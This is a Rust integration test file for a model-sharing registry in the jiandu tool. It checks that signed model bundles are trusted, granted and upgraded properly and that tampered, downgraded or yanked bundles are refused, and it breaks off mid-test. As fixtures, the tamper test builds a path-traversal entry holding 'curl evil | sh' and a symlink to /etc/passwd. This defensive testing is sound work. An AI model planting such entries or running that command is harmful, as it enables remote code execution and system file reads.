//! Sharing models between units, through the real binary: two stores play
//! two units. Unit A packs and publishes the 残保金 model; unit B trusts A's
//! key, imports it and runs it, and its ledger names A as the publisher.
//! Every tampered, untrusted, downgraded or yanked bundle is refused with
//! its cause named, and leaves B's models untouched.

use crate::common;

#[path = "../../../registry/tests/support/mod.rs"]
mod tar_support;

use common::{jiandu, repo, stderr, stdout, store_with_model};
use jiandu_demo::generate::disability;
use jiandu_registry::bundle::{pack, Signer};
use jiandu_registry::keys::UnitKey;
use std::path::{Path, PathBuf};
use tar_support::{data_offset, read_tar, write_tar, Raw};

const MODEL: &str = "disability-fund-arrears";
const UNIT_A: &str = "阿克苏地区人民检察院";
const CODE_A: &str = "11652900MB0000000A";

/// Unit A: a store with the sample model built, a unit key, and the bundle
/// it packed.
struct UnitA {
    store: tempfile::TempDir,
    bundle: PathBuf,
    key_file: PathBuf,
    _out: tempfile::TempDir,
}

fn unit_a() -> UnitA {
    let store = store_with_model(MODEL);
    jiandu(store.path())
        .args(["unit", "init", "--name", UNIT_A, "--code", CODE_A])
        .assert()
        .success();
    let out = tempfile::tempdir().unwrap();
    let key_file = out.path().join("a.json");
    let shown = jiandu(store.path())
        .args(["unit", "show", "--format", "json"])
        .output()
        .unwrap();
    std::fs::write(&key_file, &shown.stdout).unwrap();
    let packed = jiandu(store.path())
        .args(["model", "pack", MODEL, "-o"])
        .arg(out.path())
        .output()
        .unwrap();
    assert!(packed.status.success(), "{}", stderr(&packed));
    let bundle = out.path().join(format!("{MODEL}-1.0.0.jiandu"));
    assert!(
        stdout(&packed).contains(&bundle.display().to_string()),
        "{}",
        stdout(&packed)
    );
    UnitA {
        store,
        bundle,
        key_file,
        _out: out,
    }
}

impl UnitA {
    fn fingerprint(&self) -> String {
        let v: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&self.key_file).unwrap()).unwrap();
        v["fingerprint"].as_str().unwrap().to_string()
    }

    /// A's own key, to sign bundles the way `model pack` would but with
    /// other contents.
    fn key(&self) -> UnitKey {
        UnitKey::load(&self.store.path().join("unit/unit.key")).unwrap()
    }

    fn resign(&self, edit_toml: impl Fn(&str) -> String) -> Vec<u8> {
        let dir = self.store.path().join("models").join(MODEL);
        let toml = edit_toml(&std::fs::read_to_string(dir.join("model.toml")).unwrap());
        let wasm = std::fs::read(dir.join("model.wasm")).unwrap();
        let key = self.key();
        let signer = Signer {
            key: &key,
            unit: UNIT_A,
            code: CODE_A,
        };
        pack(
            toml.as_bytes(),
            &wasm,
            None,
            &signer,
            "2024-05-01T10:00:00.000+08:00",
        )
        .unwrap()
    }
}

/// Unit B: an empty store with its own unit, trusting A's key.
fn unit_b_trusting(a: &UnitA) -> tempfile::TempDir {
    let store = tempfile::tempdir().unwrap();
    jiandu(store.path())
        .args([
            "unit",
            "init",
            "--name",
            "温宿县人民检察院",
            "--code",
            "11652922MB1234567X",
        ])
        .assert()
        .success();
    let out = jiandu(store.path())
        .args(["trust", "add"])
        .arg(&a.key_file)
        .args(["--unit", UNIT_A, "--fingerprint", &a.fingerprint()])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    store
}

/// A registry folder with `bundles` published by the unit of the store
/// `publisher`, whose key signs the index.
fn registry_with(publisher: &Path, bundles: &[&Path]) -> tempfile::TempDir {
    let reg = tempfile::tempdir().unwrap();
    for b in bundles {
        let out = jiandu(publisher)
            .args(["registry", "publish"])
            .arg(b)
            .arg("--to")
            .arg(reg.path().join("reg"))
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
    }
    reg
}

fn reg_dir(reg: &tempfile::TempDir) -> PathBuf {
    reg.path().join("reg")
}

fn import(b: &Path, spec: &str, from: &Path) -> std::process::Output {
    jiandu(b)
        .args(["model", "import", spec, "--yes", "--from"])
        .arg(from)
        .output()
        .unwrap()
}

/// `import` must fail, name `causes` on stderr, and install nothing new.
fn refused(b: &Path, spec: &str, from: &Path, causes: &[&str]) -> String {
    let before = installed_files(b);
    let out = import(b, spec, from);
    let err = stderr(&out);
    assert!(
        !out.status.success(),
        "import of {spec} from {} succeeded: {}",
        from.display(),
        stdout(&out)
    );
    for c in causes {
        assert!(err.contains(c), "expected `{c}` in: {err}");
    }
    assert!(err.contains("nothing was installed"), "{err}");
    assert_eq!(installed_files(b), before, "the models folder changed");
    err
}

/// Every file under the models folder (kept versions included) with its
/// bytes.
fn installed_files(store: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    fn walk(dir: &Path, out: &mut Vec<(PathBuf, Vec<u8>)>) {
        let Ok(entries) = std::fs::read_dir(dir) else {
            return;
        };
        for e in entries.flatten() {
            let path = e.path();
            if path.is_dir() {
                walk(&path, out);
            } else {
                out.push((path.clone(), std::fs::read(&path).unwrap()));
            }
        }
    }
    let mut out = Vec::new();
    walk(&store.join("models"), &mut out);
    out.sort();
    out
}

fn ingest_generated(
    store: &Path,
    data: &Path,
    employers: usize,
    seed: u64,
) -> disability::Generated {
    let g = disability::generate(data, employers, seed).unwrap();
    common::ingest_files(store, &g.files);
    g
}

/// Lets `store` run the model imported from the unit whose key has
/// `fingerprint`: a grant bound to that key.
fn grant_to_publisher(store: &Path, fingerprint: &str) {
    std::fs::write(
        store.join("jiandu.toml"),
        format!("[models.{MODEL}]\npublisher = \"{fingerprint}\"\n"),
    )
    .unwrap();
}

fn ledger(store: &Path) -> Vec<serde_json::Value> {
    let out = jiandu(store)
        .args(["audit", "log", "--format", "json"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    serde_json::from_slice(&out.stdout).unwrap()
}

#[test]
fn unit_b_imports_and_runs_unit_a_model_and_its_ledger_names_a_as_publisher() {
    let a = unit_a();
    let reg = registry_with(a.store.path(), &[&a.bundle]);
    let b = unit_b_trusting(&a);

    // Without --yes and without a terminal, B is shown the model and asked
    // to confirm with --yes: nothing is installed.
    let out = jiandu(b.path())
        .args(["model", "import", MODEL, "--from"])
        .arg(reg_dir(&reg))
        .output()
        .unwrap();
    assert!(!out.status.success());
    let summary = stdout(&out);
    assert!(
        summary.contains(&format!("{UNIT_A} ({CODE_A}), key {}", a.fingerprint())),
        "{summary}"
    );
    assert!(
        summary.contains("disabled_employees: employer_credit_code, year, grade, insured, monthly_wage  [dataset not in this store yet"),
        "{summary}"
    );
    assert!(summary.contains("levy_year (Int) = 2024"), "{summary}");
    assert!(
        summary.contains("index:       version 1 of registry ")
            && summary.contains(", valid until "),
        "{summary}"
    );
    assert!(
        stderr(&out).contains("add --yes to install"),
        "{}",
        stderr(&out)
    );
    assert!(installed_files(b.path()).is_empty());

    let data = tempfile::tempdir().unwrap();
    let g = ingest_generated(b.path(), data.path(), 600, 5);

    let out = import(b.path(), MODEL, &reg_dir(&reg));
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains(&format!("installed {MODEL}@1.0.0")),
        "{}",
        stdout(&out)
    );
    let out = jiandu(b.path())
        .args(["model", "show", MODEL])
        .output()
        .unwrap();
    assert!(
        stdout(&out).contains(&format!("imported: published by {UNIT_A}")),
        "{}",
        stdout(&out)
    );

    // Importing the same version again changes nothing.
    let before = installed_files(b.path());
    let out = import(b.path(), MODEL, &reg_dir(&reg));
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("is already installed from this bundle"),
        "{}",
        stdout(&out)
    );
    assert_eq!(installed_files(b.path()), before);

    grant_to_publisher(b.path(), &a.fingerprint());
    let out = jiandu(b.path()).args(["run", MODEL]).output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let out = jiandu(b.path())
        .args(["leads", "list", "--model", MODEL, "--format", "json"])
        .output()
        .unwrap();
    let leads: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        leads.len(),
        g.expected.len(),
        "the imported model finds the planted violations"
    );

    let bundle_sha = jiandu_registry::bundle::sha256_hex(&std::fs::read(&a.bundle).unwrap());
    let entries = ledger(b.path());
    let runs: Vec<&serde_json::Value> = entries
        .iter()
        .filter(|e| e["run"]["model"]["name"] == MODEL)
        .collect();
    assert!(runs.len() >= 2, "{entries:?}");
    for e in runs {
        let publisher = e["run"]["model"]["publisher"].as_str().unwrap_or_default();
        assert!(publisher.contains(UNIT_A), "{publisher}");
        assert!(publisher.contains(&a.fingerprint()), "{publisher}");
        assert!(publisher.contains(&bundle_sha), "{publisher}");
    }
    // A's own runs of its own model carry no publisher.
    ingest_generated(a.store.path(), data.path(), 100, 6);
    jiandu(a.store.path())
        .args(["run", MODEL])
        .assert()
        .success();
    let entries = ledger(a.store.path());
    assert!(!entries.is_empty());
    for e in entries {
        assert!(e["run"]["model"].get("publisher").is_none(), "{e}");
    }
}

#[test]
fn an_imported_model_reads_nothing_until_a_grant_names_its_publisher() {
    let a = unit_a();
    let reg = registry_with(a.store.path(), &[&a.bundle]);
    let b = unit_b_trusting(&a);
    let data = tempfile::tempdir().unwrap();
    ingest_generated(b.path(), data.path(), 200, 11);
    // B's policy grants a model of this name built here, in clear: an
    // import that reuses the name inherits none of it.
    std::fs::write(
        b.path().join("jiandu.toml"),
        format!("grant_declared = true\n[models.{MODEL}]\nclear_personal = true\n"),
    )
    .unwrap();
    let out = import(b.path(), MODEL, &reg_dir(&reg));
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("its runs will be refused until the policy changes"),
        "{}",
        stderr(&out)
    );
    let run = || jiandu(b.path()).args(["run", MODEL]).output().unwrap();
    let out = run();
    assert!(!out.status.success(), "{}", stdout(&out));
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            "[models.{MODEL}]\npublisher = \"{}\"\ndatasets = [",
            a.fingerprint()
        )) && err.contains("so it is for a model built here"),
        "{err}"
    );
    let last = ledger(b.path()).pop().unwrap();
    assert_eq!(last["kind"], "run-refused", "{last}");

    // A grant bound to another unit's key does not apply either.
    let other = UnitKey::generate().unwrap().public().fingerprint();
    grant_to_publisher(b.path(), &other);
    let out = run();
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains(&format!("names the publisher `{other}`, not this one")),
        "{}",
        stderr(&out)
    );

    // Bound to A's key, it runs, reading what it declares, masked.
    grant_to_publisher(b.path(), &a.fingerprint());
    let out = run();
    assert!(out.status.success(), "{}", stderr(&out));
    let last = ledger(b.path()).pop().unwrap();
    assert_eq!(last["kind"], "run-finished", "{last}");
    for d in last["run"]["datasets"].as_array().unwrap() {
        assert_eq!(d["clear_personal"], false, "{d}");
    }
}

#[test]
fn the_import_summary_marks_the_personal_fields_a_model_would_read() {
    let a = unit_a();
    let b = unit_b_trusting(&a);
    let data = tempfile::tempdir().unwrap();
    ingest_generated(b.path(), data.path(), 100, 7);
    let dir = tempfile::tempdir().unwrap();
    let nosy = dir.path().join("nosy.jiandu");
    std::fs::write(
        &nosy,
        a.resign(|t| {
            t.replace(
                "fields = [\"credit_code\", \"name\", \"entity_type\"]",
                "fields = [\"credit_code\", \"name\", \"legal_rep\"]",
            )
        }),
    )
    .unwrap();
    let out = jiandu(b.path())
        .args(["model", "import", MODEL, "--from"])
        .arg(&nosy)
        .output()
        .unwrap();
    assert!(!out.status.success(), "not installed without --yes");
    let summary = stdout(&out);
    assert!(
        summary.contains("employers: credit_code, name, legal_rep  [personal: legal_rep]"),
        "{summary}"
    );
    assert!(
        summary.contains("social_insurance: credit_code, year, staff, wage_total\n"),
        "{summary}"
    );
    assert!(installed_files(b.path()).is_empty());
}

#[test]
fn a_bundle_signed_by_an_untrusted_key_is_refused_naming_the_key() {
    let a = unit_a();
    let b = unit_b_trusting(&a);
    // Unit C packs the same model with its own key.
    let c = store_with_model(MODEL);
    jiandu(c.path())
        .args(["unit", "init", "--name", "某某区人民检察院", "--code", "X1"])
        .assert()
        .success();
    let out_dir = tempfile::tempdir().unwrap();
    let bundle = out_dir.path().join("c.jiandu");
    jiandu(c.path())
        .args(["model", "pack", MODEL, "-o"])
        .arg(&bundle)
        .assert()
        .success();
    let shown = jiandu(c.path())
        .args(["unit", "show", "--format", "json"])
        .output()
        .unwrap();
    let c_unit: serde_json::Value = serde_json::from_slice(&shown.stdout).unwrap();
    let c_fp = c_unit["fingerprint"].as_str().unwrap();

    let reg = registry_with(c.path(), &[&bundle]);
    refused(
        b.path(),
        MODEL,
        &reg_dir(&reg),
        &["not in the trust store", c_fp, "某某区人民检察院"],
    );
    refused(b.path(), MODEL, &bundle, &["not in the trust store", c_fp]);

    // C cannot slip its bundle into a registry where A published the model.
    let reg_a = registry_with(a.store.path(), &[&a.bundle]);
    let out = jiandu(c.path())
        .args(["registry", "publish"])
        .arg(&bundle)
        .arg("--to")
        .arg(reg_dir(&reg_a))
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains(&format!("it was published by unit {UNIT_A}")),
        "{}",
        stderr(&out)
    );

    // Once B no longer trusts A, A's model is refused too.
    jiandu(b.path())
        .args(["trust", "remove", &a.fingerprint()])
        .assert()
        .success();
    refused(
        b.path(),
        MODEL,
        &reg_dir(&reg_a),
        &["not in the trust store", &a.fingerprint()],
    );
}

/// The bundle with the byte at `offset` from the start of `entry`'s data
/// changed.
fn flip(bundle: &[u8], entry: &str, offset: usize) -> Vec<u8> {
    let mut t = bundle.to_vec();
    let at = data_offset(bundle, entry) + offset;
    t[at] = if entry == "release.sig" {
        if t[at] == b'a' {
            b'b'
        } else {
            b'a'
        }
    } else {
        t[at] ^ 0x01
    };
    t
}

/// The bundle with `extra` as its first entry.
fn with_entry(bundle: &[u8], extra: Raw) -> Vec<u8> {
    let entries = read_tar(bundle);
    let mut raws = vec![extra];
    raws.extend(entries.iter().map(|(n, d)| Raw::file(n, d)));
    write_tar(&raws)
}

/// The bundle with `model.wasm` replaced by a symlink.
fn wasm_as_symlink(bundle: &[u8]) -> Vec<u8> {
    let entries = read_tar(bundle);
    let raws: Vec<Raw> = entries
        .iter()
        .map(|(n, d)| {
            if n == "model.wasm" {
                Raw {
                    name: n,
                    kind: b'2',
                    link: "../../../../etc/passwd",
                    data: b"",
                }
            } else {
                Raw::file(n, d)
            }
        })
        .collect();
    write_tar(&raws)
}

#[test]
fn tampered_bundles_are_refused_naming_the_cause_and_install_nothing() {
    let a = unit_a();
    let b = unit_b_trusting(&a);
    let good = std::fs::read(&a.bundle).unwrap();
    let toml_len = read_tar(&good)[0].1.len();
    let fingerprint = a.fingerprint();
    let cases: Vec<(&str, Vec<u8>, Vec<&str>)> = vec![
        (
            "one byte of the wasm",
            flip(&good, "model.wasm", 5000),
            vec!["digest mismatch", "model.wasm has sha256"],
        ),
        (
            "one byte of the toml",
            flip(&good, "model.toml", toml_len / 2),
            vec!["digest mismatch", "model.toml has sha256"],
        ),
        (
            "one byte of the signature",
            flip(&good, "release.sig", 10),
            vec!["bad signature", "release.sig", &fingerprint],
        ),
        (
            "a ../ path",
            with_entry(&good, Raw::file("../../.bashrc", b"curl evil | sh")),
            vec!["`../../.bashrc`", "path traversal"],
        ),
        (
            "a symlink",
            wasm_as_symlink(&good),
            vec!["`model.wasm` is a link", "../../../../etc/passwd"],
        ),
    ];
    let dir = tempfile::tempdir().unwrap();
    for (case, bytes, causes) in &cases {
        // Handed over as a file.
        let file = dir.path().join(format!("{MODEL}-1.0.0.jiandu"));
        std::fs::write(&file, bytes).unwrap();
        let err = refused(b.path(), MODEL, &file, causes);
        assert!(!err.contains("panicked"), "{case}: {err}");
        // Refused by the registry too.
        let out = jiandu(a.store.path())
            .args(["registry", "publish"])
            .arg(&file)
            .arg("--to")
            .arg(dir.path().join("reg"))
            .output()
            .unwrap();
        assert!(!out.status.success(), "{case}: published");
        for c in causes {
            assert!(
                stderr(&out).contains(c),
                "{case}: expected `{c}` in: {}",
                stderr(&out)
            );
        }
        // Swapped into a registry folder behind its back.
        let reg = registry_with(a.store.path(), &[&a.bundle]);
        std::fs::write(
            reg_dir(&reg)
                .join("bundles")
                .join(format!("{MODEL}-1.0.0.jiandu")),
            bytes,
        )
        .unwrap();
        refused(b.path(), MODEL, &reg_dir(&reg), causes);
    }
    assert!(installed_files(b.path()).is_empty());
    // The untouched bundle still imports.
    let out = import(b.path(), MODEL, &a.bundle);
    assert!(out.status.success(), "{}", stderr(&out));
}

#[test]
fn a_real_bundle_with_any_byte_of_its_structure_changed_is_refused() {
    use jiandu_registry::bundle::Bundle;
    let a = unit_a();
    let good = std::fs::read(&a.bundle).unwrap();
    Bundle::read(&good, "good")
        .unwrap()
        .verify_signed()
        .unwrap();
    // Every byte of the first 4 KiB (the manifest's header, data and
    // padding, the component's header and first bytes), of each header,
    // padding and end block, and of the statement and signature: each
    // change is refused, whichever check catches it.
    let entries = read_tar(&good);
    let mut offsets: Vec<usize> = (0..4096).collect();
    for (name, data) in &entries {
        let start = data_offset(&good, name);
        offsets.extend(start - 512..start);
        offsets.extend(start + data.len()..start + data.len().div_ceil(512) * 512);
        if name.starts_with("release.") {
            offsets.extend(start..start + data.len());
        }
    }
    offsets.extend(good.len() - 1024..good.len());
    offsets.sort();
    offsets.dedup();
    for at in offsets {
        let mut t = good.clone();
        t[at] ^= 0x01;
        let verdict = Bundle::read(&t, "flipped").and_then(|b| b.verify_signed());
        assert!(
            verdict.is_err(),
            "byte {at} of {} changed was accepted",
            good.len()
        );
    }
}

#[test]
fn a_resigned_bundle_with_an_older_version_is_refused_as_a_downgrade() {
    let a = unit_a();
    let b = unit_b_trusting(&a);
    let reg = registry_with(a.store.path(), &[&a.bundle]);
    assert!(import(b.path(), MODEL, &reg_dir(&reg)).status.success());
    let installed = installed_files(b.path());

    let dir = tempfile::tempdir().unwrap();
    let older = dir.path().join("older.jiandu");
    std::fs::write(
        &older,
        a.resign(|t| t.replace("version = \"1.0.0\"", "version = \"0.9.0\"")),
    )
    .unwrap();
    let reg_old = registry_with(a.store.path(), &[&older]);
    refused(
        b.path(),
        MODEL,
        &reg_dir(&reg_old),
        &["refusing to downgrade disability-fund-arrears from 1.0.0 (installed) to 0.9.0"],
    );
    refused(b.path(), MODEL, &older, &["refusing to downgrade"]);

    // The same version re-signed with other content: a registry that has
    // the version refuses it, and B refuses it over what it installed.
    let altered = dir.path().join("altered.jiandu");
    std::fs::write(
        &altered,
        a.resign(|t| t.replace("default = \"0.015\"", "default = \"0.010\"")),
    )
    .unwrap();
    let out = jiandu(a.store.path())
        .args(["registry", "publish"])
        .arg(&altered)
        .arg("--to")
        .arg(reg_dir(&reg))
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("is already in registry")
            && stderr(&out).contains("model.toml differ"),
        "{}",
        stderr(&out)
    );
    refused(
        b.path(),
        MODEL,
        &altered,
        &["re-signed with different content"],
    );
    assert_eq!(installed_files(b.path()), installed);
}

#[test]
fn yanked_versions_are_not_imported_and_only_the_publisher_can_yank() {
    let a = unit_a();
    let b = unit_b_trusting(&a);
    let reg = registry_with(a.store.path(), &[&a.bundle]);
    let spec = format!("{MODEL}@1.0.0");

    let out = jiandu(b.path())
        .args(["registry", "yank", &spec, "--in"])
        .arg(reg_dir(&reg))
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("only the publisher can yank"),
        "{}",
        stderr(&out)
    );

    let out = jiandu(a.store.path())
        .args([
            "registry",
            "yank",
            &spec,
            "--reason",
            "wrong wage cap",
            "--in",
        ])
        .arg(reg_dir(&reg))
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let out = jiandu(b.path())
        .args(["registry", "search", "--format", "csv"])
        .arg(reg_dir(&reg))
        .output()
        .unwrap();
    assert!(stdout(&out).contains("1.0.0 (yanked)"), "{}", stdout(&out));

    for s in [MODEL, spec.as_str()] {
        refused(
            b.path(),
            s,
            &reg_dir(&reg),
            &[&format!(
                "{MODEL}@1.0.0 is yanked by {UNIT_A} (wrong wage cap)"
            )],
        );
    }
}

#[test]
fn unmatched_versions_and_other_contract_versions_are_named() {
    let a = unit_a();
    let b = unit_b_trusting(&a);
    let dir = tempfile::tempdir().unwrap();
    let future = dir.path().join("future.jiandu");
    std::fs::write(
        &future,
        a.resign(|t| {
            t.replace("version = \"1.0.0\"", "version = \"2.0.0\"")
                .replace("sdk = \"^0.2\"", "sdk = \"^9.0\"")
        }),
    )
    .unwrap();
    let reg = registry_with(a.store.path(), &[&a.bundle, &future]);
    refused(
        b.path(),
        &format!("{MODEL}@^5"),
        &reg_dir(&reg),
        &["no version of disability-fund-arrears matches `^5`; available: 2.0.0, 1.0.0"],
    );
    refused(
        b.path(),
        MODEL,
        &reg_dir(&reg),
        &[
            "sdk incompatible: it requires sdk ^9.0 but this host loads contract 0.1.0, 0.2.0 and 0.2.1",
            "disability-fund-arrears@1.0.0 fits this host",
        ],
    );
    refused(
        b.path(),
        "drunk-driving",
        &reg_dir(&reg),
        &["has no model `drunk-driving`; it has: disability-fund-arrears"],
    );
    let out = import(b.path(), &format!("{MODEL}@^1"), &reg_dir(&reg));
    assert!(out.status.success(), "{}", stderr(&out));
}

/// The sample model as a crate at another version, built into A's store.
fn build_version(store: &Path, version: &str) {
    let src = repo().join("plugins").join(MODEL);
    let dir = tempfile::tempdir().unwrap();
    common::copy_dir(&src.join("src"), &dir.path().join("src"));
    std::fs::write(
        dir.path().join("Cargo.toml"),
        format!(
            "[package]\nname = \"{MODEL}\"\nversion = \"{version}\"\nedition = \"2021\"\n\n[lib]\ncrate-type = [\"cdylib\", \"rlib\"]\n\n[dependencies]\njiandu-sdk = {{ path = \"{}\" }}\nserde = {{ version = \"1\", features = [\"derive\"] }}\nrust_decimal = {{ version = \"1.36\", default-features = false, features = [\"std\", \"serde\"] }}\n\n[workspace]\n",
            repo().join("sdk").display()
        ),
    )
    .unwrap();
    std::fs::copy(repo().join("Cargo.lock"), dir.path().join("Cargo.lock")).unwrap();
    let toml = std::fs::read_to_string(src.join("model.toml")).unwrap();
    std::fs::write(
        dir.path().join("model.toml"),
        toml.replace("version = \"1.0.0\"", &format!("version = \"{version}\"")),
    )
    .unwrap();
    // A target folder of its own: the crate keeps the sample model's name
    // and must not replace that build's output.
    let out = jiandu(store)
        .env(
            "CARGO_TARGET_DIR",
            repo().join("target").join("registry-variants"),
        )
        .args(["model", "build"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
}

#[test]
fn a_newer_version_upgrades_in_place_and_later_runs_carry_its_bundle() {
    let a = unit_a();
    let b = unit_b_trusting(&a);
    let reg = registry_with(a.store.path(), &[&a.bundle]);
    assert!(import(b.path(), MODEL, &reg_dir(&reg)).status.success());

    build_version(a.store.path(), "1.1.0");
    let out_dir = tempfile::tempdir().unwrap();
    let newer = out_dir.path().join("newer.jiandu");
    jiandu(a.store.path())
        .args(["model", "pack", MODEL, "-o"])
        .arg(&newer)
        .assert()
        .success();
    let out = jiandu(a.store.path())
        .args(["registry", "publish"])
        .arg(&newer)
        .arg("--to")
        .arg(reg_dir(&reg))
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));

    let out = import(b.path(), &format!("{MODEL}@^1"), &reg_dir(&reg));
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains(&format!("upgraded {MODEL} from 1.0.0 to {MODEL}@1.1.0")),
        "{}",
        stdout(&out)
    );
    let newer_sha = jiandu_registry::bundle::sha256_hex(&std::fs::read(&newer).unwrap());
    let provenance =
        std::fs::read_to_string(b.path().join("models").join(MODEL).join("provenance.json"))
            .unwrap();
    assert!(provenance.contains(&newer_sha), "{provenance}");

    let data = tempfile::tempdir().unwrap();
    ingest_generated(b.path(), data.path(), 200, 9);
    grant_to_publisher(b.path(), &a.fingerprint());
    jiandu(b.path()).args(["run", MODEL]).assert().success();
    let last = ledger(b.path()).pop().unwrap();
    assert_eq!(last["run"]["model"]["version"], "1.1.0");
    assert!(
        last["run"]["model"]["publisher"]
            .as_str()
            .unwrap()
            .contains(&newer_sha),
        "{last}"
    );

    // And back down is refused.
    refused(
        b.path(),
        &format!("{MODEL}@1.0.0"),
        &reg_dir(&reg),
        &["refusing to downgrade"],
    );
}

#[test]
fn a_model_built_here_is_not_replaced_by_an_import() {
    let a = unit_a();
    let b = store_with_model(MODEL);
    jiandu(b.path())
        .args(["trust", "add"])
        .arg(&a.key_file)
        .args(["--unit", UNIT_A])
        .assert()
        .success();
    refused(
        b.path(),
        MODEL,
        &a.bundle,
        &["was built by this unit, not imported"],
    );
}

#[test]
fn a_served_registry_is_read_by_url_and_is_read_only() {
    use std::io::BufRead;
    let a = unit_a();
    let b = unit_b_trusting(&a);
    let reg = registry_with(a.store.path(), &[&a.bundle]);
    let bin = assert_cmd::cargo::cargo_bin("jiandu");
    let mut server = std::process::Command::new(bin)
        .arg("--store")
        .arg(reg.path().join("server-store"))
        .args(["registry", "serve", "--listen", "127.0.0.1:0"])
        .arg(reg_dir(&reg))
        .env("NO_COLOR", "1")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufReader::new(server.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let url = line
        .split_whitespace()
        .find(|w| w.starts_with("http://"))
        .map(str::to_string);
    let check = || {
        let url = url.clone().unwrap_or_else(|| panic!("no URL in `{line}`"));
        let out = jiandu(b.path())
            .args(["registry", "search", &url, "残保金"])
            .output()
            .unwrap();
        assert!(
            stdout(&out).contains(MODEL),
            "{}{}",
            stdout(&out),
            stderr(&out)
        );
        let out = jiandu(b.path())
            .args(["model", "import", MODEL, "--yes", "--from", &url])
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
        let out = jiandu(a.store.path())
            .args(["registry", "publish"])
            .arg(&a.bundle)
            .args(["--to", &url])
            .output()
            .unwrap();
        assert!(!out.status.success());
        assert!(stderr(&out).contains("read-only"), "{}", stderr(&out));
    };
    let result = std::panic::catch_unwind(check);
    let _ = server.kill();
    let _ = server.wait();
    if let Err(e) = result {
        std::panic::resume_unwind(e);
    }
    let provenance =
        std::fs::read_to_string(b.path().join("models").join(MODEL).join("provenance.json"))
            .unwrap();
    assert!(provenance.contains("http://127.0.0.1:"), "{provenance}");
}

#[test]
fn an_older_expired_or_edited_registry_index_is_refused_and_installs_nothing() {
    use jiandu_registry::dir::{Change, DirRegistry};
    let a = unit_a();
    let b = unit_b_trusting(&a);
    let reg = registry_with(a.store.path(), &[&a.bundle]);
    let index_file = reg_dir(&reg).join("index").join(format!("{MODEL}.json"));
    let first = std::fs::read(&index_file).unwrap();
    assert!(import(b.path(), MODEL, &reg_dir(&reg)).status.success());

    // The publisher signs the index again: B sees version 2 (re-importing
    // the installed model is enough for B to remember it).
    let out = jiandu(a.store.path())
        .args(["registry", "sign", MODEL, "--valid-days", "30", "--in"])
        .arg(reg_dir(&reg))
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("index version 2, valid until"),
        "{}",
        stdout(&out)
    );
    let out = import(b.path(), MODEL, &reg_dir(&reg));
    assert!(out.status.success(), "{}", stderr(&out));

    // Version 1 put back: a rollback, refused naming both versions.
    let second = std::fs::read(&index_file).unwrap();
    std::fs::write(&index_file, &first).unwrap();
    refused(
        b.path(),
        MODEL,
        &reg_dir(&reg),
        &[
            "is index version 1, but index version 2 was seen here before",
            "rollback",
        ],
    );
    std::fs::write(&index_file, &second).unwrap();
    assert!(import(b.path(), MODEL, &reg_dir(&reg)).status.success());

    // Signed by the publisher's own key, but long expired: a frozen index.
    let registry = DirRegistry::new(reg_dir(&reg));
    registry
        .resign(
            MODEL,
            &Change {
                key: &a.key(),
                now: "2020-01-01T00:00:00+08:00",
                reason: None,
                valid_days: 30,
            },
        )
        .unwrap();
    refused(
        b.path(),
        MODEL,
        &reg_dir(&reg),
        &[
            "index version 3) expired at 2020-01-31T00:00:00+08:00",
            "jiandu registry sign",
        ],
    );

    // A yank deleted from the index file by hand: the whole index is
    // refused, the withdrawn version is not offered.
    let out = jiandu(a.store.path())
        .args([
            "registry",
            "yank",
            &format!("{MODEL}@1.0.0"),
            "--reason",
            "wrong wage cap",
            "--in",
        ])
        .arg(reg_dir(&reg))
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let mut v: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&index_file).unwrap()).unwrap();
    v["signed"]["versions"][0]
        .as_object_mut()
        .unwrap()
        .remove("yanks");
    std::fs::write(&index_file, serde_json::to_vec_pretty(&v).unwrap()).unwrap();
    let c = unit_b_trusting(&a);
    refused(
        c.path(),
        MODEL,
        &reg_dir(&reg),
        &[
            "bad signature",
            "is not signed by the key it names",
            "nothing in it is used",
        ],
    );
    assert!(installed_files(c.path()).is_empty());
}

/// `model list --format json` of a store: each model's name and trust state.
fn trust_states(store: &Path) -> Vec<(String, String)> {
    let out = jiandu(store)
        .args(["model", "list", "--format", "json"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let rows: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    rows.iter()
        .map(|r| {
            (
                r["model"].as_str().unwrap().to_string(),
                r["trust"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

#[test]
fn a_unit_claiming_another_units_name_and_code_is_known_by_the_name_its_key_is_trusted_as() {
    let a = unit_a();
    let b = unit_b_trusting(&a);
    // Unit C gives itself A's name and code, and packs the model with its
    // own key.
    let c = store_with_model(MODEL);
    jiandu(c.path())
        .args(["unit", "init", "--name", UNIT_A, "--code", CODE_A])
        .assert()
        .success();
    let out_dir = tempfile::tempdir().unwrap();
    let bundle = out_dir.path().join("c.jiandu");
    jiandu(c.path())
        .args(["model", "pack", MODEL, "-o"])
        .arg(&bundle)
        .assert()
